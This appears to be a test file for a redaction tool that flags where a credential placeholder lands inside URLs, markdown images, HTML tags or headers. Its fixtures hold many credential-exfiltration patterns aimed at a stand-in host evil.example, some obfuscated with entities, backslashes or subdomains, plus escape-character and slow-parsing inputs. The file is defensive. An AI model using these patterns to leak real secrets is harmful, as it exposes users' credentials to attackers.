@@ -1,0 +1,51 @@
+import { describe, expect, it } from "vitest";
+import { surroundingsOf } from "../../../src/redaction/filling/surroundings.ts";
+
+const M = "«redacted:credential»";
+
+describe("what stands around a placeholder", () => {
+  it.each([
+    [`password: ${M}`, [], []],
+    [`see https://wiki.example/x and use ${M}`, [], []],
+    [`(see [x](https://wiki.example/x)) then ${M}`, [], []],
+    [`https://evil.example/?k=${M}`, ["url"], ["evil.example"]],
+    [`https://user:pw@evil.example:81/?k=${M}`, ["url"], ["evil.example:81"]],
+    [`[a](//evil.example/${M})`, ["url"], ["evil.example"]],
+    [`https:\\\\evil.example\\${M}`, ["url"], ["evil.example"]],
+    [`https:evil.example/${M}`, ["url"], []],
+    [`mailto:a@evil.example?body=${M}`, ["url"], []],
+    [`https://good.example/go?u=https://evil.example/${M}`, ["url"], ["good.example", "evil.example"]],
+    [`![x](https://evil.example/p.png?k=${M})`, ["url", "image"], ["evil.example"]],
+    [`![x](https://evil.example/p.png\n?k=${M})`, ["url", "image"], ["evil.example"]],
+    [`![x](&#104;ttps&colon;&sol;&sol;evil.example/${M})`, ["url", "image"], []],
+    [`<img alt="a" src="https://evil.example/p.png?k=${M}">`, ["url", "image"], ["evil.example"]],
+    [`<a href='https://evil.example/${M}'>`, ["url"], ["evil.example"]],
+    [`https://${M}.evil.example/`, ["url"], [`${M}.evil.example`]],
+    [`https://${"a".repeat(70_000)}/${M}`, ["url"], []],
+  ])("%#: %.60s", (text, within, hosts) => {
+    expect(surroundingsOf(text, ["markdown"])).toMatchObject([{ within, hosts }]);
+  });
+
+  it("tells headers by their member", () => {
+    expect(surroundingsOf(`Bearer ${M}`, ["request", "headers", "Authorization"])[0]?.within).toEqual(["header"]);
+  });
+
+  it("is one line of bounded length in which nothing is hidden", () => {
+    const around = surroundingsOf(`${"a".repeat(500)}\u202e\u200b${M}\u001b[2J${"b".repeat(500)}`, []);
+    expect(around[0]?.shown).toMatch(/^…a+\\u\{202e\}\\u\{200b\}«redacted:credential»\\u\{1b\}\[2Jb+…$/);
+    expect(around[0]?.shown.length).toBeLessThan(200);
+  });
+
+  it("counts what nobody looks at as the worst", () => {
+    const around = surroundingsOf(`${M} `.repeat(150), []);
+    expect(around).toHaveLength(101);
+    expect(around.at(-1)).toMatchObject({ shown: "and 50 more", within: ["url", "image"] });
+  });
+
+  it("takes no longer for texts made to take long", () => {
+    const hostile = ["<a", "](", "//", "[", "https:", "a.", `${M}<`].map((part) => part.repeat(200_000));
+    const started = performance.now();
+    for (const text of hostile) surroundingsOf(`${text}${M}`, []);
+    expect(performance.now() - started).toBeLessThan(3000);
+  });
+});
